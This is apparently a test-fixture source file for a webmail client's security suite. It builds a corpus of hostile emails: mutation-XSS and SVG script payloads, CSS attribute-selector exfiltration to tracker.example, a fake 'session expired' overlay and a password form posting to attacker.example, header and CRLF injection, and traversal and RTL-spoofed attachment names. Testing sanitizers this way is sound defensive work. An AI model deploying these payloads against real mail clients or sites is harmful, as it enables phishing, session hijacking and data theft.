// The hostile message corpus for the browser suite (issue 6): one row per
// message, grouped by family, each turned into an RFC 5322 message by toEml().
// Every script path tries to prove it ran: it sets __pwned on itself, its
// parent and top, logs "PWNED", or opens a dialog. Every remote reference
// points at tracker.example or attacker.example, which the test aborts.

/** What a payload runs if it ever runs. No double quotes, so it fits in any attribute. */
export const JS = "top.__pwned=1;parent.__pwned=1;window.__pwned=1;console.log('PWNED');alert('PWNED')";
const T = 'https://tracker.example';
const A = 'https://attacker.example';

export interface Attachment {
  name: string;
  type: string;
  body: string | Buffer;
  cid?: string;
  inline?: boolean;
  /** Extra header lines for the part. */
  headers?: string[];
}

export interface CorpusMessage {
  id: string;
  family: 'mxss' | 'svg' | 'css' | 'tracking' | 'meta-refresh' | 'base' | 'form' | 'link-spoof' | 'header-injection' | 'attachment' | 'text';
  /** Raw Subject header value (may be an encoded-word). */
  subject?: string;
  /** Raw From header value. */
  from?: string;
  html?: string;
  text?: string;
  /** Charset of the body part (default utf-8). */
  charset?: string;
  attachments?: Attachment[];
  headers?: string[];
  /** The body refers to remote images the reader could unblock. */
  remote?: boolean;
}

const b64w = (s: string) => `=?utf-8?b?${Buffer.from(s).toString('base64')}?=`;

export const CORPUS: CorpusMessage[] = [
  // ---- mXSS (bad-input 52) ------------------------------------------------
  { id: 'mxss-noscript', family: 'mxss', html: `<noscript><p title="</noscript><img src=x onerror=${JS}>"></p></noscript>` },
  { id: 'mxss-math-mglyph', family: 'mxss', html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${JS}&gt;">` },
  { id: 'mxss-form-math', family: 'mxss', html: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${JS} src>">` },
  { id: 'mxss-svg-style', family: 'mxss', html: `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">` },
  { id: 'mxss-template', family: 'mxss', html: `<template><style></template><img src=x onerror=${JS}></style></template><xmp><img src=x onerror=${JS}></xmp>` },
  { id: 'mxss-comment', family: 'mxss', html: `<!--><img src=x onerror=${JS}>--><![CDATA[><img src=x onerror=${JS}>]]><textarea></textarea><img src=x onerror=${JS}>` },
  { id: 'mxss-namespace', family: 'mxss', html: `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg><math><annotation-xml encoding="text/html"><img src=x onerror=${JS}></annotation-xml></math>` },

  // ---- SVG (bad-input 53) -------------------------------------------------
  { id: 'svg-onload', family: 'svg', html: `<svg onload="${JS}"><circle r="5"/></svg><svg><script>${JS}</script></svg>` },
  { id: 'svg-animate-href', family: 'svg', html: `<svg><a><animate attributeName="href" values="javascript:${JS}"/><text x="20" y="20">click</text></a></svg>` },
  { id: 'svg-set', family: 'svg', html: `<svg><set attributeName="onmouseover" to="${JS}"/><set attributeName="href" to="javascript:${JS}"/></svg>` },
  { id: 'svg-feimage', family: 'svg', html: `<svg><filter id="f"><feImage href="${T}/feimage.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`, remote: false },
  { id: 'svg-use-data', family: 'svg', html: `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${JS.replace(/'/g, '&quot;')}'/></svg>`).toString('base64')}#x"/></svg><img src="data:image/svg+xml,<svg onload='alert(1)'/>">` },

  // ---- CSS exfiltration and overlays (bad-input 54) -----------------------
  { id: 'css-import', family: 'css', html: `<style>@import url(${T}/import.css); @import '${T}/import2.css';</style><p>styled</p>` },
  { id: 'css-background', family: 'css', html: `<div style="background:url(//tracker.example/bg.png)">bg</div><div style="background-image:url('${T}/bg2.png')">bg2</div>`, remote: true },
  { id: 'css-var', family: 'css', html: `<div style="--u:url(${T}/var.png);background:var(--u)">var</div><style>:root{--x:url(${T}/root.png)} body{background:var(--x)}</style>` },
  { id: 'css-attr-selector', family: 'css', html: `<style>input[value^=a]{background:url(${T}/a)} input[value^=b]{background:url(${T}/b)}</style><input value="abc"><a href="${T}/x" style="font-family:x;src:url(${T}/font.woff)">a</a>` },
  { id: 'css-overlay', family: 'css', html: `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white">Your session expired. <a href="${A}/login">Sign in again</a></div>` },
  { id: 'css-font-face', family: 'css', html: `<style>@font-face{font-family:x;src:url(${T}/font.woff)} p{font-family:x;cursor:url(${T}/cursor.cur),auto;list-style-image:url(${T}/li.png)}</style><p>font</p><ul><li>item</li></ul>` },
  { id: 'css-expression', family: 'css', html: `<div style="width:expression(${JS.replace(/'/g, '')});behavior:url(${T}/x.htc);-moz-binding:url(${T}/x.xml#x)">legacy</div>` },

  // ---- tracking pixels (bad-input 55) --------------------------------------
  { id: 'track-img', family: 'tracking', html: `<p>hi</p><img src="${T}/pixel.gif" width="1" height="1"><img src="http://tracker.example/plain.gif">`, remote: true },
  { id: 'track-srcset', family: 'tracking', html: `<img srcset="${T}/srcset.png 1x, ${T}/srcset2.png 2x"><img src="${T}/both.png" srcset="${T}/both2.png 1x">`, remote: true },
  { id: 'track-picture', family: 'tracking', html: `<picture><source srcset="${T}/source.webp" type="image/webp"><img src="${T}/picture.png"></picture>`, remote: true },
  { id: 'track-body-bg', family: 'tracking', html: `<html><body background="${T}/body.png"><table background="${T}/table.png"><tr><td background="${T}/td.png">x</td></tr></table></body></html>` },
  { id: 'track-media', family: 'tracking', html: `<video poster="${T}/poster.png" src="${T}/v.mp4"></video><audio src="${T}/a.mp3" autoplay></audio><input type="image" src="${T}/input.png">` },
  { id: 'track-link', family: 'tracking', html: `<link rel="prefetch" href="${T}/prefetch"><link rel="preload" as="image" href="${T}/preload.png"><link rel="dns-prefetch" href="//dns.tracker.example"><link rel="stylesheet" href="${T}/s.css">` },
  { id: 'track-embed', family: 'tracking', html: `<object data="${T}/obj.swf"></object><embed src="${T}/embed.swf"><iframe src="${T}/frame.html"></iframe><frameset><frame src="${T}/f.html"></frameset>` },

  // ---- meta refresh (bad-input 56) ----------------------------------------
  { id: 'meta-refresh-head', family: 'meta-refresh', html: `<html><head><meta http-equiv="refresh" content="0;url=${A}/phish"></head><body>wait</body></html>` },
  { id: 'meta-refresh-body', family: 'meta-refresh', html: `<p>x</p><meta http-equiv="refresh" content="0; url=javascript:${JS}"><meta http-equiv="Set-Cookie" content="mr_session=attacker; path=/">` },

  // ---- base href (bad-input 56) -------------------------------------------
  { id: 'base-href', family: 'base', html: `<base href="${A}/"><a href="login">relative</a><img src="relative.png"><form action="steal"><button>go</button></form>` },
  { id: 'base-target', family: 'base', html: `<base target="_top"><a href="${A}/x" id="t">top</a><a href="${A}/y" target="_parent">parent</a>` },

  // ---- forms (bad-input 56) -----------------------------------------------
  { id: 'form-autofocus', family: 'form', html: `<form action="${A}/steal" method="post"><input name="password" type="password" autofocus onfocus="${JS}"><input type="submit"></form>` },
  { id: 'form-formaction', family: 'form', html: `<form><button formaction="javascript:${JS}">x</button><isindex action="javascript:${JS}"><input onblur="${JS}" autofocus></form>` },
  { id: 'form-delete-img', family: 'form', html: `<img src="/inbox/victim@mailroom.test/xxxx/delete"><form action="/logout" method="post"><button>Sign out</button></form>` },

  // ---- link spoofing (bad-input 57) ---------------------------------------
  { id: 'link-text-host', family: 'link-spoof', html: `<a href="${A}/login">https://bank.example/login</a> <a href="https://xn--pypal-4ve.com/">https://paypal.com/</a>` },
  { id: 'link-js-data', family: 'link-spoof', html: `<a href="javascript:${JS}">js</a><a href="data:text/html,<script>${JS}</script>">data</a><a href="jav&#x09;ascript:${JS}">tab</a><a href="vbscript:msgbox(1)">vb</a>` },
  { id: 'link-target-top', family: 'link-spoof', html: `<a href="${A}/top" target="_top">top</a><area href="javascript:${JS}"><a href="${A}/opener" target="_blank" rel="opener">opener</a>` },

  // ---- header injection: subjects, names, filenames (bad-inputs 41, 42, 58) ----
  { id: 'hdr-subject-encoded', family: 'header-injection', subject: b64w(`<script>${JS}</script><img src=x onerror=${JS}>`), text: 'subject payload' },
  { id: 'hdr-subject-plain', family: 'header-injection', subject: `"><svg onload=${JS}></title><script>${JS}</script>`, text: 'plain subject payload' },
  { id: 'hdr-from-name', family: 'header-injection', from: `${b64w(`<img src=x onerror=${JS}>`)} <evil@attacker.example>`, text: 'from name payload' },
  { id: 'hdr-from-spoof', family: 'header-injection', from: `"support@bank.example" <evil@attacker.example>`, subject: 'Your account', text: 'spoofed name' },
  { id: 'hdr-crlf', family: 'header-injection', subject: b64w('hello\r\nX-Injected: yes\r\n\r\n<script>top.__pwned=1</script>'), text: 'crlf in an encoded word', headers: [`X-Extra: <iframe src="javascript:${JS}">`, `Message-ID: <"><script>${JS}</script>@x>`] },
  { id: 'hdr-to-cc', family: 'header-injection', headers: [`Cc: "<img src=x onerror=${JS}>" <cc@x.example>`, `Reply-To: ${b64w(`<svg onload=${JS}>`)} <r@x.example>`], text: 'to/cc payloads' },
  {
    id: 'hdr-filename',
    family: 'header-injection',
    text: 'filename payloads',
    attachments: [
      { name: `<img src=x onerror=${JS}>.txt`, type: 'text/plain', body: 'x' },
      { name: '../../etc/passwd', type: 'text/plain', body: 'root:x:0:0' },
      { name: 'invoice\u202Egpj.exe', type: 'application/octet-stream', body: 'MZ' },
    ],
  },

  // ---- attachments (bad-inputs 45, 47) ------------------------------------
  {
    id: 'att-html-svg-xml',
    family: 'attachment',
    html: '<p>see attached</p>',
    attachments: [
      { name: 'page.html', type: 'text/html', body: `<script>${JS}</script>` },
      { name: 'pic.svg', type: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script></svg>` },
      { name: 'data.xml', type: 'application/xml', body: `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${JS}</x:script>` },
    ],
  },
  {
    id: 'att-lying-type',
    family: 'attachment',
    text: 'a png that is html',
    attachments: [{ name: 'photo.png', type: 'image/png', body: `<html><script>${JS}</script></html>` }],
  },
  {
    id: 'att-inline-svg-cid',
    family: 'attachment',
    html: '<p>inline</p><img src="cid:svg@x"><img src="cid:../../routes.js">',
    attachments: [{ name: 'i.svg', type: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`, cid: 'svg@x', inline: true }],
  },
  {
    id: 'att-rfc822',
    family: 'attachment',
    text: 'forwarded',
    attachments: [
      {
        name: 'fwd.eml',
        type: 'message/rfc822',
        body: `From: inner@x.example\r\nSubject: <script>${JS}</script>\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${JS}><img src="${T}/inner.png">\r\n`,
      },
    ],
  },

  // ---- plain text and charsets (bad-inputs 40, 59) ------------------------
  { id: 'text-linkify', family: 'text', text: `Visit https://x.example/"><script>${JS}</script> or https://x.example/a'onmouseover='${JS.replace(/'/g, '')} now\r\n<img src=x onerror=${JS}>` },
  { id: 'text-utf7', family: 'text', charset: 'utf-7', html: '+ADw-script+AD4-top.__pwned=1+ADw-/script+AD4-' },
];

let seq = 0;

/** The message as sent over SMTP. `token` lands in the body so search can find it. */
export function toEml(c: CorpusMessage, to: string, token: string): string {
  const head = [
    `From: ${c.from ?? `"Corpus ${c.id}" <corpus@attacker.example>`}`,
    `To: ${to}`,
    `Subject: ${c.subject ?? `corpus ${c.id}`}`,
    `Date: ${new Date(Date.UTC(2025, 0, 1, 0, 0, seq++)).toUTCString()}`,
    ...(c.headers?.some((h) => /^Message-ID:/i.test(h)) ? [] : [`Message-ID: <${c.id}.${seq}@corpus.example>`]),
    ...(c.headers ?? []),
    'MIME-Version: 1.0',
  ];
  const charset = c.charset ?? 'utf-8';
  const bodyType = c.html !== undefined ? 'text/html' : 'text/plain';
  const bodyText = (c.html ?? c.text ?? '') + `\r\n<!-- ${token} -->\r\n${token}\r\n`;
  if (!c.attachments?.length) {
    return [...head, `Content-Type: ${bodyType}; charset=${charset}`, '', bodyText, ''].join('\r\n');
  }
  const b = `corpus-${c.id}-boundary`;
  const out = [...head, `Content-Type: multipart/mixed; boundary="${b}"`, '', `--${b}`, `Content-Type: ${bodyType}; charset=${charset}`, '', bodyText];
  for (const a of c.attachments) {
    const data = Buffer.isBuffer(a.body) ? a.body : Buffer.from(a.body);
    const name = /[^\x20-\x7e]|"/.test(a.name) ? b64w(a.name) : a.name;
    out.push(`--${b}`, `Content-Type: ${a.type}; name="${name}"`, `Content-Disposition: ${a.inline ? 'inline' : 'attachment'}; filename="${name}"`);
    if (a.cid) out.push(`Content-ID: <${a.cid}>`);
    if (a.type === 'message/rfc822') out.push('', data.toString('utf8'));
    else out.push('Content-Transfer-Encoding: base64', '', data.toString('base64').replace(/.{76}/g, '$&\r\n'));
  }
  out.push(`--${b}--`, '');
  return out.join('\r\n');
}
